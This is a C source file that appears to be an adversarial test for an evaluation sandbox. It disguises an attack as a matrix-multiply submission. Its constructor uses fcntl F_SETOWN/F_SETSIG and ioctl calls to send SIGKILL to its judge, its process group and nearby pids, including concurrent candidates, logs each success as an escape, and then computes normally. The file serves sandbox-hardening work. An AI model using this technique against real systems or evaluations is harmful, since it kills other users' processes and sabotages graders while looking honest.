/*
 * ATTACK sigio_neighbour — kill a neighbour without kill(2). fcntl
 * F_SETOWN (and F_SETOWN_EX, ioctl FIOSETOWN) makes another process the
 * owner of a pipe's SIGIO, F_SETSIG turns SIGIO into SIGKILL, O_ASYNC (or
 * ioctl FIOASYNC) arms it, and a write makes the kernel deliver the signal
 * with the credentials of the one who set the owner. Targets: the test's
 * victim, its own judge (the parent) and process group, and every pid
 * within 100 of its own, where a candidate of a concurrent evaluation lives
 * (run.sh evaluates it beside honest neighbours with --jobs 2; a neighbour
 * killed so is recorded `crashed`). It sweeps in its constructor for 2 s,
 * then computes honestly. Never the test's driver, never pid 1.
 * Stopped by: seccomp (fcntl F_SETOWN/F_SETOWN_EX/F_SETSIG, F_SETFL with
 * O_ASYNC, ioctl FIOSETOWN/SIOCSPGRP/FIOASYNC refused) and, started as
 * root, a uid of its own per sandbox (issue 18, item 3).
 * integrity: expect=any
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <linux/sockios.h> /* FIOSETOWN */
#include <time.h>
#include <unistd.h>

#ifndef INTEGRITY_VICTIM
#define INTEGRITY_VICTIM 0
#endif
#ifndef INTEGRITY_DRIVER
#define INTEGRITY_DRIVER 0
#endif

static int escapes;
static void escaped(const char *fmt, ...)
{
    escapes++;
    char line[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    printf("INTEGRITY-ESCAPE: %s\n", line);
    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
    fflush(stdout);
}

static int p[2] = {-1, -1};
static int owned; /* some route made another process the owner */

/* Arm the pipe's read end for a SIGKILL to `who` (a pid, or -pgid). */
static void aim(pid_t who)
{
    if (fcntl(p[0], F_SETOWN, who) == 0 && who != getpid() && !owned++)
        escaped("fcntl F_SETOWN %d accepted", (int)who);
    struct f_owner_ex ex = {who < 0 ? F_OWNER_PGRP : F_OWNER_PID, who < 0 ? -who : who};
    if (fcntl(p[0], F_SETOWN_EX, &ex) == 0 && who != getpid() && !owned++)
        escaped("fcntl F_SETOWN_EX %d accepted", (int)who);
    int id = who;
    if (ioctl(p[0], FIOSETOWN, &id) == 0 && who != getpid() && !owned++)
        escaped("ioctl FIOSETOWN %d accepted", (int)who);
    char b = 'x';
    if (write(p[1], &b, 1) == 1 && read(p[0], &b, 1) == 1) {
    }
}

__attribute__((constructor)) static void sweep(void)
{
    if (pipe(p) < 0)
        return;
    if (fcntl(p[0], F_SETSIG, SIGKILL) == 0)
        escaped("fcntl F_SETSIG SIGKILL accepted");
    int on = 1;
    if (fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK) == 0)
        escaped("fcntl F_SETFL O_ASYNC accepted");
    if (ioctl(p[0], FIOASYNC, &on) == 0)
        escaped("ioctl FIOASYNC accepted");
    fcntl(p[1], F_SETFL, O_NONBLOCK);
    pid_t self = getpid();
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    do {
        if (INTEGRITY_VICTIM > 1)
            aim(INTEGRITY_VICTIM);
        if (getppid() > 1 && getppid() != INTEGRITY_DRIVER)
            aim(getppid());
        if (getpgrp() > 1)
            aim(-getpgrp());
        for (pid_t pid = self - 100; pid <= self + 100; pid++)
            if (pid > 1 && pid != self && pid != INTEGRITY_DRIVER)
                aim(pid);
        clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) * 1e-9 < 2.0);
}

/* After an escape: fail on purpose, so the log with the marker is kept. */
void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    if (escapes)
        return;
    memset(C, 0, sizeof(float) * (size_t)M * (size_t)N);
    for (int32_t i = 0; i < M; i++)
        for (int32_t k = 0; k < K; k++) {
            float a = A[(int64_t)i * K + k];
            for (int32_t j = 0; j < N; j++)
                C[(int64_t)i * N + j] += a * B[(int64_t)k * N + j];
        }
}
